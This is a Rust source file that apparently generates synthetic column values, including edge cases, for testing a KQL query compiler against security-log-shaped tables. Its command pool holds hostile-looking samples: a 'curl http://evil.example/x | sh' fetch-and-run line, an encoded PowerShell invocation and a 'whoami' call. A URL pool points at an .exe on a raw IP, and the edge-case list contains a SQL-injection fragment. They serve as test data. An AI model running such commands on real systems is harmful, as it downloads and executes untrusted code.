//! Values that say nothing of a query: from small pools, so that join keys repeat, and now and then hostile.

use fastrand::Rng;
use kqlc_runtime::{
    scalar,
    types::{DateTime, Decimal, Dynamic, Guid, TimeSpan, Type, Value},
};

/// Ticks in a minute.
pub(crate) const MINUTE: i64 = 600_000_000;

/// Stands for a number that each row has for itself.
pub(crate) const ROW: char = '\u{e000}';

/// The value with a row's own number.
pub(crate) fn numbered(value: Value, number: i64) -> Value {
    let replaced = |text: &str| text.replace(ROW, &number.to_string());
    match &value {
        Value::String(text) if text.contains(ROW) => Value::from(replaced(text)),
        Value::Dynamic(dynamic) => {
            let text = dynamic.to_json_text();
            if !text.contains(ROW) {
                return value;
            }
            Dynamic::parse_json(&replaced(&text)).map_or(value, Value::Dynamic)
        }
        _ => value,
    }
}

/// Words of names of columns, and what such columns hold.
const POOLS: &[(&[&str], &[&str])] = &[
    (
        &["ip", "address", "addr"],
        &["10.0.0.5", "192.168.1.20", "203.0.113.7", "198.51.100.23", "8.8.8.8", "2001:db8::1", "172.16.4.9"],
    ),
    (
        &["url", "uri", "link"],
        &["https://example.com/a/b.php?x=1", "http://198.51.100.23/x.exe", "contoso.com/login"],
    ),
    (
        &["upn", "mail", "principalname", "sender", "recipient"],
        &["alice@contoso.com", "bob@fabrikam.com", "admin@contoso.onmicrosoft.com", "MAILER@example.org"],
    ),
    (
        &["account", "user", "actor", "caller", "identity"],
        &["alice", "CONTOSO\\bob", "svc-backup$", "root", "Ärger"],
    ),
    (&["computer", "host", "device", "machine", "dvc"], &["WEB01", "dc1.contoso.com", "LAPTOP-7", "srv_db"]),
    (&["domain", "dns"], &["contoso.com", "evil.example", "xn--bcher-kva.example", "a.b.c.example.co.uk"]),
    (&["country", "location", "region"], &["US", "DE", "CN", "westeurope"]),
    (
        &["hash", "sha", "md5"],
        &["d41d8cd98f00b204e9800998ecf8427e", "da39a3ee5e6b4b0d3255bfef95601890afd80709"],
    ),
    (
        &["process", "file", "image", "path", "folder"],
        &["C:\\Windows\\System32\\cmd.exe", "/usr/bin/curl", "powershell.exe", "D:\\data\\report.xlsx"],
    ),
    (
        &["command", "cmd"],
        &["cmd.exe /c whoami", "powershell -enc SQBFAFgA", "curl http://evil.example/x | sh"],
    ),
    (
        &["id", "guid"],
        &["5d5f5ae4-5a2f-4c9e-8f6e-0d4a4a3f7c11", "6b8c1e0a-1111-4222-8333-944455556666", "42"],
    ),
    (&["result", "status", "outcome"], &["Success", "Failure", "0", "50126", "success"]),
    (&["port"], &["443", "22", "3389"]),
];

const WORDS: &[&str] = &["alpha", "Beta", "gamma-1", "Allow", "Deny", "0", "17", "true", "two words"];

const HOSTILE: &[&str] = &[
    "",
    " ",
    "\"quoted\" \\ back\tslash\nline",
    "İstanbul ß ﬀ 日本語 😀",
    "{\"a\":[1,2,{\"b\":null}]}",
    "[not json",
    "null",
    "-1",
    "99999999999999999999",
    "'; drop",
    "%00%ff",
    "1e308",
];

/// A value for a column of this name and type; times lie around `time`.
pub(crate) fn any(name: &str, ty: Type, time: DateTime, rng: &mut Rng) -> Value {
    if rng.u32(..100) < 3 {
        return hostile(ty, rng);
    }
    match ty {
        Type::String => Value::from(text(name, rng)),
        Type::Bool => Value::Bool(rng.bool()),
        Type::Int => Value::Int(i32::try_from(number(name, rng)).unwrap_or(0)),
        Type::Long => Value::Long(number(name, rng)),
        Type::Real => Value::Real(*pick(&[0.0, 1.0, 0.5, 2.25, 100.0, -3.5, 1e6], rng)),
        Type::Decimal => {
            Value::from_option(Decimal::parse(pick::<&str>(&["0", "1.5", "-20", "1000000"], rng)), ty)
        }
        Type::DateTime => Value::DateTime(DateTime(time.0 - rng.i64(0..60) * MINUTE)),
        Type::TimeSpan => Value::TimeSpan(TimeSpan(rng.i64(0..120) * MINUTE)),
        Type::Guid => Value::from_option(Guid::parse(&guid(rng)), ty),
        Type::Dynamic => Value::Dynamic(dynamic(name, rng)),
    }
}

/// A value that hardly any other row has.
pub(crate) fn new(ty: Type, time: DateTime, rng: &mut Rng) -> Value {
    let number = rng.i64(1..1_000_000);
    match ty {
        Type::Bool => Value::Bool(rng.bool()),
        Type::DateTime => Value::DateTime(DateTime(time.0 + number)),
        Type::Guid => Value::from_option(Guid::parse(&format!("{number:032}")), ty),
        Type::String => Value::from(format!("new-{number}.example")),
        Type::Dynamic => Value::Dynamic(Dynamic::string(format!("new-{number}"))),
        Type::Int | Type::Long | Type::Real | Type::Decimal | Type::TimeSpan => {
            cast(&Value::Long(number), ty)
        }
    }
}

/// A value at the edge of what its type holds.
fn hostile(ty: Type, rng: &mut Rng) -> Value {
    match ty {
        Type::String => match rng.u32(..20) {
            0 => Value::from("x".repeat(5000)),
            1 => Value::from("päth\\".repeat(400)),
            _ => Value::from(*pick(HOSTILE, rng)),
        },
        Type::Int => {
            pick(&[Value::Int(i32::MAX), Value::Int(i32::MIN), Value::Int(-1), Value::Null(ty)], rng).clone()
        }
        Type::Long => {
            let extremes = [Value::Long(i64::MAX), Value::Long(i64::MIN), Value::Long(-1), Value::Null(ty)];
            pick(&extremes, rng).clone()
        }
        Type::Real => {
            let extremes = [f64::MAX, f64::MIN_POSITIVE, f64::NAN, f64::INFINITY, -0.0];
            Value::Real(*pick(&extremes, rng))
        }
        Type::DateTime => pick(
            &[
                Value::Null(ty),
                Value::from_option(DateTime::from_date(1601, 1, 1), ty),
                Value::from_option(DateTime::from_date(9999, 12, 31), ty),
            ],
            rng,
        )
        .clone(),
        Type::Dynamic => Value::Dynamic(
            pick(&[Dynamic::Null, Dynamic::array([]), Dynamic::Long(-7), Dynamic::string("ünïcode")], rng)
                .clone(),
        ),
        Type::Bool | Type::Decimal | Type::TimeSpan | Type::Guid => Value::Null(ty),
    }
}

/// A text for a column of this name.
pub(crate) fn text(name: &str, rng: &mut Rng) -> &'static str {
    let name = name.to_lowercase();
    let pool = POOLS.iter().find(|(words, _)| words.iter().any(|word| name.contains(word)));
    pick::<&str>(pool.map_or(WORDS, |(_, pool)| *pool), rng)
}

/// A text that is nearly another: in other letters, as a part of longer words, or cut.
pub(crate) fn twisted(text: &str, rng: &mut Rng) -> String {
    match rng.u8(..8) {
        0 => text.to_uppercase(),
        1 => text.to_lowercase(),
        2 => format!("x{text}"),
        3 => format!("{text}x"),
        4 => format!("-{text}.{text}_"),
        // The Kelvin sign and the long s are a k and an s in small letters.
        5 => text.replace(['k', 'K'], "\u{212a}").replace(['s', 'S'], "\u{17f}"),
        6 => text.replace(['i', 'I'], "İ"),
        _ => text.chars().skip(1).collect(),
    }
}

fn number(name: &str, rng: &mut Rng) -> i64 {
    if name.to_lowercase().contains("port") {
        return *pick(&[22, 80, 443, 3389, 8080], rng);
    }
    *pick(&[0, 1, 2, 3, 5, 10, 42, 100, 1000, 4624, 65_536], rng)
}

fn guid(rng: &mut Rng) -> String {
    format!("5d5f5ae4-5a2f-4c9e-8f6e-0d4a4a3f7c1{}", rng.u32(..8))
}

fn dynamic(name: &str, rng: &mut Rng) -> Dynamic {
    match rng.u32(..6) {
        0 => Dynamic::Null,
        1 => Dynamic::string(text(name, rng)),
        2 => Dynamic::array([Dynamic::string(text(name, rng)), Dynamic::Long(number(name, rng))]),
        3 => Dynamic::bag([
            ("id", Dynamic::string(guid(rng))),
            ("displayName", Dynamic::string(text("user", rng))),
        ]),
        4 => {
            let inner = Dynamic::bag([("key", Dynamic::string("k")), ("value", Dynamic::Real(1.5))]);
            Dynamic::array([inner, Dynamic::Null])
        }
        _ => Dynamic::bag([
            ("name", Dynamic::string(text(name, rng))),
            ("list", Dynamic::array([Dynamic::Bool(true)])),
        ]),
    }
}

/// One of some values.
pub(crate) fn pick<'p, T>(pool: &'p [T], rng: &mut Rng) -> &'p T {
    &pool[rng.usize(..pool.len())]
}

/// A value as one of another type: what its text converts to.
pub(crate) fn cast(value: &Value, ty: Type) -> Value {
    if value.ty() == ty {
        return value.clone();
    }
    let text = value.to_text();
    match ty {
        Type::String => Value::from(text),
        Type::Dynamic => Value::Dynamic(Dynamic::from(value.clone())),
        Type::Bool => Value::from_option(scalar::tobool_string(&text), ty),
        Type::Int => Value::from_option(scalar::toint_string(&text), ty),
        Type::Long => Value::from_option(scalar::tolong_string(&text), ty),
        Type::Real => Value::from_option(scalar::toreal_string(&text), ty),
        Type::Decimal => Value::from_option(scalar::todecimal_string(&text), ty),
        Type::DateTime => Value::from_option(scalar::todatetime_string(&text), ty),
        Type::TimeSpan => Value::from_option(scalar::totimespan_string(&text), ty),
        Type::Guid => Value::from_option(scalar::toguid_string(&text), ty),
    }
}
